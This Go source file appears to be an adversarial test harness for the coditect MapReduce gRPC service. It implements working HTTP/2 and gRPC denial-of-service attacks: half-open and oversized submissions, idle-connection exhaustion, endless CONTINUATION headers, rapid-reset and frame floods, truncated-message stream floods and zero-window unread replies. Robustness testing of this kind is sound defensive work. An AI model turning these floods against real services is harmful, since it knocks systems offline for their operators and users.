package main

import (
	"context"
	"fmt"
	"io"
	"net"
	"sync"
	"time"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
	"google.golang.org/grpc"

	pb "github.com/coditect/mapreduce/proto/coditect/mapreduce/v1"
)

// halfOpenSubmissions begin, bring most of a document, and never end.
func halfOpenSubmissions(ctx context.Context, a *attacker) error {
	for ctx.Err() == nil {
		conn, err := a.dial()
		if err != nil {
			return err
		}

		short, stop := context.WithTimeout(ctx, 15*time.Second)
		var all sync.WaitGroup
		for i := range 50 {
			all.Go(func() { a.halfOpen(short, conn, i%2 == 0) })
		}
		all.Wait()
		stop()
		_ = conn.Close()
	}
	return nil
}

func (a *attacker) halfOpen(ctx context.Context, conn *grpc.ClientConn, large bool) {
	stream, err := pb.NewMapReduceServiceClient(conn).SubmitJob(ctx)
	if err != nil {
		return
	}
	a.report.count("submissions that never end", 1)
	err = stream.Send(&pb.SubmitJobRequest{Spec: villainSpec(), Documents: orders(1)})

	content := make([]byte, 256<<10)
	for sent := 0; large && err == nil && sent < 63<<20; sent += len(content) {
		err = stream.Send(&pb.SubmitJobRequest{Documents: []*pb.DocumentPiece{{DocumentId: "d", Content: content, More: true}}})
	}

	if err != nil {
		a.report.answered("refusals of these", "", stream.RecvMsg(new(pb.SubmitJobResponse)))
		pause(ctx, time.Second)
		return
	}
	<-ctx.Done()
}

// idleConnections are opened and say nothing.
func idleConnections(ctx context.Context, a *attacker) error {
	for ctx.Err() == nil {
		var all []net.Conn
		for range 500 {
			if c, err := net.DialTimeout("tcp", a.address, time.Second); err == nil {
				all = append(all, c)
				a.report.count("connections that say nothing", 1)
			}
		}

		pause(ctx, 10*time.Second)
		for _, c := range all {
			_ = c.Close()
		}
	}
	return nil
}

// A wire is a connection on which HTTP/2 is spoken by hand.
type wire struct {
	net.Conn
	*http2.Framer
	headers *hpack.Encoder
	block   block
}

type block []byte

func (b *block) Write(p []byte) (int, error) {
	*b = append(*b, p...)
	return len(p), nil
}

// openWire opens a connection, and reads what comes, if it is to be read.
func (a *attacker) openWire(ctx context.Context, reads bool, settings ...http2.Setting) (*wire, error) {
	conn, err := new(net.Dialer).DialContext(ctx, "tcp", a.address)
	if err != nil {
		return nil, err
	}

	w := &wire{Conn: conn}
	w.Framer, w.headers = http2.NewFramer(conn, nil), hpack.NewEncoder(&w.block)
	w.AllowIllegalWrites = true
	if reads {
		go func() { _, _ = io.Copy(io.Discard, conn) }()
	}

	_ = conn.SetWriteDeadline(time.Now().Add(30 * time.Second))
	if _, err := io.WriteString(conn, http2.ClientPreface); err != nil {
		return nil, err
	}
	return w, w.WriteSettings(settings...)
}

// call writes the headers of a call.
func (w *wire) call(stream uint32, method string, whole bool) error {
	w.block = nil
	for _, f := range [][2]string{{":method", "POST"}, {":scheme", "http"}, {":path", method}, {":authority", "a"}, {"content-type", "application/grpc"}, {"te", "trailers"}} {
		if err := w.headers.WriteField(hpack.HeaderField{Name: f[0], Value: f[1]}); err != nil {
			return err
		}
	}
	return w.WriteHeaders(http2.HeadersFrameParam{StreamID: stream, BlockFragment: w.block, EndHeaders: whole})
}

// onWires does something on so many connections at a time, until ctx ends.
func (a *attacker) onWires(ctx context.Context, count int, reads bool, settings []http2.Setting, do func(context.Context, *wire)) error {
	var all sync.WaitGroup
	for range count {
		all.Go(func() {
			for ctx.Err() == nil {
				w, err := a.openWire(ctx, reads, settings...)
				if err == nil {
					short, stop := context.WithTimeout(ctx, 20*time.Second)
					do(short, w)
					stop()
					_ = w.Close()
				}
				pause(ctx, 100*time.Millisecond)
			}
		})
	}

	all.Wait()
	return nil
}

// endlessHeaders begins headers and never ends them.
func endlessHeaders(ctx context.Context, a *attacker) error {
	return a.onWires(ctx, 20, true, nil, func(ctx context.Context, w *wire) {
		err := w.call(1, pb.MapReduceService_GetJob_FullMethodName, false)
		for err == nil && pause(ctx, 50*time.Millisecond) {
			a.report.count("headers that go on", 1)
			err = w.WriteContinuation(1, false, []byte{0x40, 1, 'a', 1, 'b'})
		}
	})
}

// frameFlood sends frames that have to be answered, or are empty, as fast as they go.
func frameFlood(ctx context.Context, a *attacker) error {
	return a.onWires(ctx, 2, true, nil, func(ctx context.Context, w *wire) {
		var err error
		for i := uint32(1); err == nil && ctx.Err() == nil; i += 2 {
			switch a.draw(5) {
			case 0:
				err = w.WritePing(false, [8]byte{})
			case 1:
				err = w.WriteSettings(http2.Setting{ID: http2.SettingInitialWindowSize, Val: uint32(a.draw(1 << 20))})
			case 2:
				err = w.WriteWindowUpdate(0, 1)
			case 3:
				if err = w.call(i, pb.MapReduceService_GetJob_FullMethodName, true); err == nil {
					err = w.WriteRSTStream(i, http2.ErrCodeCancel)
				}
			case 4:
				if err = w.call(i, pb.MapReduceService_SubmitJob_FullMethodName, true); err == nil {
					err = w.WriteData(i, false, nil)
				}
			}

			a.report.count("frames", 1)
			if i%64 == 1 {
				pause(ctx, time.Millisecond)
			}
		}
	})
}

// streamFlood opens calls that say nothing, or bring all of a message but its end.
func streamFlood(ctx context.Context, a *attacker) error {
	methods := []string{pb.WorkerService_Work_FullMethodName, pb.MapReduceService_SubmitJob_FullMethodName, pb.MapReduceService_GetJob_FullMethodName, pb.WorkerService_PutBlob_FullMethodName}
	message := make([]byte, 16<<10)
	message[1] = 0x00
	message[2] = 0x7f // a length of 8 MB, of which no more comes

	return a.onWires(ctx, 10, true, nil, func(ctx context.Context, w *wire) {
		for i := range uint32(900) {
			stream := 2*i + 1
			if w.call(stream, methods[i%4], true) != nil || i%2 == 0 && w.WriteData(stream, false, message) != nil {
				return
			}
			a.report.count("streams that say nothing", 1)
		}
		<-ctx.Done()
	})
}

// unreadReplies asks for much and reads none of it.
func unreadReplies(ctx context.Context, a *attacker) error {
	return a.onWires(ctx, 4, false, []http2.Setting{{ID: http2.SettingInitialWindowSize, Val: 0}}, func(ctx context.Context, w *wire) {
		id := a.honest.jobID()
		request := fmt.Appendf([]byte{0, 0, 0, 0, byte(2 + len(id)), 10, byte(len(id))}, "%s", id)

		for i := range uint32(900) {
			method := []string{pb.MapReduceService_ListEvents_FullMethodName, pb.MapReduceService_GetResult_FullMethodName, pb.MapReduceService_ListUnits_FullMethodName, pb.MapReduceService_WatchJob_FullMethodName}[i%4]
			if w.call(2*i+1, method, true) != nil || w.WriteData(2*i+1, true, request) != nil {
				return
			}
			a.report.count("replies that are not read", 1)
		}
		<-ctx.Done()
	})
}
